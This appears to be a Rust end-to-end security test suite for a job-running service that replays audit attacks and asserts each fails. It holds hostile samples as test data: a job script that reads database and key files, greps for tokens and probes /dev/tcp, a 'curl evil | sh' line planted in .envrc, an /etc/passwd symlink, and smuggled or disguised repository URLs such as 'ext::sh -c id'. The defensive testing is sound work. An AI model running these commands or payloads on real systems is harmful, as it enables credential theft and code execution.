//! The attacks of the trust audit, replayed through the real binaries (`ckrv-api serve` with
//! its local workers and sandboxed agents, `ckrv-orchestrator`, `ckrv`): each asserts that the
//! attack fails and that the legitimate path beside it still works.

#![allow(clippy::unwrap_used)]

use std::path::PathBuf;
use std::time::Duration;

use ckrv_e2e::{
    Api, Cli, StaticServer, create_served_repo, dispatch_script, git, processes_matching,
    script_spec,
};
use ckrv_test_support::{Browser, PASSWORD};
use serde_json::Value;

/// A served repository, a running API with two accounts (alice, mallory), and a logged-in CLI
/// with a worktree for each.
struct Stage {
    root: PathBuf,
    _repos: StaticServer,
    repo_url: String,
    api: Api,
    alice: (Cli, PathBuf),
    mallory: (Cli, PathBuf),
    _tmp: tempfile::TempDir,
}

impl Stage {
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().to_path_buf();
        let served = root.join("served");
        std::fs::create_dir_all(&served).unwrap();
        create_served_repo(&served, "app", &[("README.md", "# App\n\nStatus: draft\n")]);
        let repos = StaticServer::start(&served);
        let repo_url = format!("http://{}/app.git", repos.addr);
        let api = Api::start(&root.join("api"));
        let person = |name: &str| {
            let email = format!("{name}@example.com");
            api.add_user(&email, PASSWORD);
            let cli = Cli::new(api.url.clone(), root.join(name));
            let work = root.join(format!("{name}-work"));
            git(&root, &["clone", "-q", &repo_url, work.to_str().unwrap()]);
            cli.login_with_token(&work, &api.token(&email));
            (cli, work)
        };
        let alice = person("alice");
        let mallory = person("mallory");
        Self {
            root,
            _repos: repos,
            repo_url,
            api,
            alice,
            mallory,
            _tmp: tmp,
        }
    }

    /// Dispatches a job running `script` as `who`; returns its id.
    fn dispatch(&self, who: &(Cli, PathBuf), script: &str) -> String {
        dispatch_script(&who.0, &who.1, &self.repo_url, script)
    }

    fn log(&self, who: &(Cli, PathBuf), id: &str) -> String {
        who.0.ok(&who.1, &["logs", id])
    }
}

#[test]
fn knowing_an_email_signs_nobody_in_and_other_peoples_jobs_stay_hidden() {
    if !ckrv_test_support::sandbox_available() {
        return;
    }
    let stage = Stage::new();
    let id = stage.dispatch(&stage.alice, "echo alice-private-output");
    let job = stage.alice.0.finished(&stage.alice.1, &id);
    assert_eq!(job["state"], "succeeded", "{job}");

    // The skeleton's hole: approving a device code by typing alice's email.
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let (pending, page) =
        runtime.block_on(async {
            let http = reqwest::Client::new();
            let device: Value = http
                .post(format!("{}/v1/auth/device", stage.api.url))
                .json(&serde_json::json!({"client_id": "ckrv-cli"}))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            let page = http
                .post(format!("{}/activate", stage.api.url))
                .form(&[
                    ("user_code", device["user_code"].as_str().unwrap()),
                    ("email", "alice@example.com"),
                ])
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap();
            tokio::time::sleep(Duration::from_millis(600)).await;
            let poll: Value = http
            .post(format!("{}/v1/auth/token", stage.api.url))
            .json(&serde_json::json!({"client_id": "ckrv-cli", "device_code": device["device_code"],
                "grant_type": "urn:ietf:params:oauth:grant-type:device_code"}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
            (poll, page)
        });
    assert!(page.contains("Sign in"), "{page}");
    assert_eq!(pending["error"], "authorization_pending", "{pending}");

    // Mallory, signed in as herself, sees nothing of alice's.
    let (cli, work) = &stage.mallory;
    for args in [
        vec!["status", &id[..]],
        vec!["logs", &id[..]],
        vec!["pull", &id[..], "--yes"],
    ] {
        let err = cli.fails(work, &args);
        assert!(err.contains("not found"), "{args:?}: {err}");
    }
    // Guessing user codes from one address is cut short.
    let limited = runtime.block_on(async {
        let browser = Browser::new(&stage.api.url);
        browser.sign_in("mallory@example.com", PASSWORD).await;
        for n in 0..30 {
            let (status, _) = browser
                .get(&format!("/activate?user_code=BCDF-{n:04}"))
                .await;
            if status == reqwest::StatusCode::TOO_MANY_REQUESTS {
                return true;
            }
        }
        false
    });
    assert!(limited);
    // Alice still reads her own job.
    assert!(
        stage
            .log(&stage.alice, &id)
            .contains("alice-private-output")
    );
}

#[test]
fn a_hostile_job_reads_nothing_of_the_host_or_other_jobs_and_leaves_nothing_behind() {
    if !ckrv_test_support::sandbox_available() {
        return;
    }
    let stage = Stage::new();
    // Alice's job runs while mallory's looks around; it must end with only its own change.
    let victim = stage.dispatch(
        &stage.alice,
        "echo alice-secret-plan > plan.txt\nsleep 4\necho done",
    );
    let data_dir = stage.root.join("api");
    let api_port = stage.api.url.rsplit(':').next().unwrap().to_string();
    let hostile = format!(
        r#"echo "db:$(cat {data}/ckrv.db 2>&1 | head -c 80)"
echo "key:$(cat {data}/secrets.key 2>&1 | head -c 80)"
echo "workspaces:$(ls -d /tmp/ckrv-job-* {root}/* 2>/dev/null | wc -l)"
places="/tmp /var /home /root /run /srv /opt /mnt /etc /workspace {root}"
echo "plans:$(grep -rl -D skip alice-secret-plan $places 2>/dev/null | head -n 3)"
echo "tokens:$(grep -rl -D skip ckrv_wt_ $places 2>/dev/null | head -n 3)"
echo "env:$(env | grep -ci token)"
echo "procs:$(ls /proc | grep -c '^[0-9]')"
if bash -c 'echo x > /dev/tcp/127.0.0.1/{api_port}' 2>/dev/null; then echo net:open; else echo net:closed; fi
setsid sleep 4242 > /dev/null 2>&1 &
nohup sleep 4243 > /dev/null 2>&1 &
echo planted > planted.txt"#,
        data = data_dir.display(),
        root = stage.root.display(),
    );
    let id = stage.dispatch(&stage.mallory, &hostile);
    let job = stage.mallory.0.finished(&stage.mallory.1, &id);
    assert_eq!(job["state"], "succeeded", "{job}");
    let log = stage.log(&stage.mallory, &id);
    let line = |key: &str| {
        log.lines()
            .find_map(|l| {
                l.split_once(&format!("{key}:"))
                    .map(|(_, v)| v.trim().to_string())
            })
            .unwrap_or_else(|| panic!("no {key} in {log}"))
    };
    assert!(line("db").contains("No such file"), "{log}");
    assert!(line("key").contains("No such file"), "{log}");
    assert_eq!(line("workspaces"), "0", "{log}");
    assert!(line("plans").is_empty(), "{log}");
    assert!(line("tokens").is_empty(), "{log}");
    assert_eq!(line("env"), "0", "{log}");
    assert!(line("procs").parse::<u32>().unwrap() < 10, "{log}");
    assert_eq!(line("net"), "closed", "{log}");
    std::thread::sleep(Duration::from_millis(300));
    let left = processes_matching("sleep 424");
    assert!(left.is_empty(), "the job left processes running: {left:?}");

    // The victim's change is its own.
    let job = stage.alice.0.finished(&stage.alice.1, &victim);
    assert_eq!(job["state"], "succeeded", "{job}");
    let out = stage
        .alice
        .0
        .ok(&stage.alice.1, &["pull", &victim, "--yes", "--json"]);
    let pulled: Value = serde_json::from_str(&out).unwrap();
    let files: Vec<&str> = pulled["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(
        files.contains(&"plan.txt") && !files.iter().any(|f| f.contains("planted")),
        "{files:?}"
    );
}

#[test]
fn hostile_repository_urls_are_refused_before_anything_is_cloned() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let api = Api::start_strict(&root.join("api"));
    api.add_user("dev@example.com", PASSWORD);
    let cli = Cli::new(api.url.clone(), root.join("home"));
    let work = root.join("work");
    std::fs::create_dir_all(work.join("specs")).unwrap();
    git(&work, &["init", "-q", "-b", "main"]);
    std::fs::write(work.join("specs/x.md"), script_spec("Task", "echo hi")).unwrap();
    cli.login_with_token(&work, &api.token("dev@example.com"));
    let data = root.join("api");
    for (url, reason) in [
        (
            format!("file://{}", data.display()),
            "is not a repository URL",
        ),
        (data.display().to_string(), "is not a repository URL"),
        (format!("{}/v1/jobs", api.url), "is not a repository URL"),
        (
            "https://127.0.0.1/app.git".to_string(),
            "a loopback address",
        ),
        ("https://localhost/app.git".to_string(), "a loopback name"),
        // Loopback in disguise: every address here is loopback, so a policy that failed would
        // still send nothing off this machine (link-local and private addresses are covered by
        // the policy's unit tests, which connect nowhere).
        ("https://0x7f.1/app.git".to_string(), "a loopback address"),
        (
            "https://2130706433/app.git".to_string(),
            "a loopback address",
        ),
        (
            "https://[::ffff:127.0.0.1]/app.git".to_string(),
            "a loopback address",
        ),
        ("https://localhost./app.git".to_string(), "a loopback name"),
        ("ext::sh -c id".to_string(), "is not a repository URL"),
        (
            "https://dev:ghp_secret@127.0.0.1/app.git".to_string(),
            "carries credentials",
        ),
    ] {
        let err = cli.fails(
            &work,
            &[
                "run",
                "--cloud",
                "--spec",
                "specs/x.md",
                "--repo",
                &url,
                "--base-branch",
                "main",
            ],
        );
        assert!(err.contains(reason), "{url}: {err}");
        assert!(!err.contains("ghp_secret"), "{err}");
    }
    // No job was created by any of them.
    let me: Value = serde_json::from_str(&cli.ok(&work, &["cloud", "whoami", "--json"])).unwrap();
    assert_eq!(me["job_quota_remaining"], me["job_quota_limit"]);
}

#[test]
fn a_planted_link_or_dotfile_needs_a_yes_and_a_tampered_diff_is_refused() {
    if !ckrv_test_support::sandbox_available() {
        return;
    }
    let stage = Stage::new();
    let id = stage.dispatch(
        &stage.mallory,
        "sed -i s/draft/final/ README.md\nln -s /etc/passwd innocent\necho 'curl evil | sh' > .envrc\nprintf '\\033]0;owned\\007\\033[2Jescape-test\\n'",
    );
    let (cli, work) = &stage.mallory;
    assert_eq!(cli.finished(work, &id)["state"], "succeeded");

    // Job output cannot drive the terminal.
    let log = cli.ok(work, &["logs", &id]);
    assert!(log.contains("escape-test"), "{log}");
    assert!(!log.contains('\u{1b}'), "{log:?}");
    assert!(log.contains("\\x1b]0;owned\\x07"), "{log}");

    // The link and the dotfile are named, and nothing is applied without a yes.
    let err = cli.fails(work, &["pull", &id]);
    assert!(
        err.contains("innocent: a symbolic link") && err.contains(".envrc: direnv"),
        "{err}"
    );
    assert!(!work.join(".envrc").exists());

    // Whoever can write the artifact store cannot slip in another change.
    let stored = stage
        .root
        .join(format!("api/artifacts/jobs/{id}/diff.patch"));
    let original = std::fs::read(&stored).unwrap();
    let planted = String::from_utf8_lossy(&original).replace("+Status: final", "+Status: owned");
    std::fs::write(&stored, planted).unwrap();
    let err = cli.fails(work, &["pull", &id, "--yes"]);
    assert!(err.contains("is not the one its worker uploaded"), "{err}");
    assert!(
        std::fs::read_to_string(work.join("README.md"))
            .unwrap()
            .contains("draft")
    );

    // Restored, the reviewed change applies.
    std::fs::write(&stored, original).unwrap();
    cli.ok(work, &["pull", &id, "--yes"]);
    assert!(
        std::fs::read_to_string(work.join("README.md"))
            .unwrap()
            .contains("final")
    );
    assert!(
        std::fs::symlink_metadata(work.join("innocent"))
            .unwrap()
            .is_symlink()
    );
}
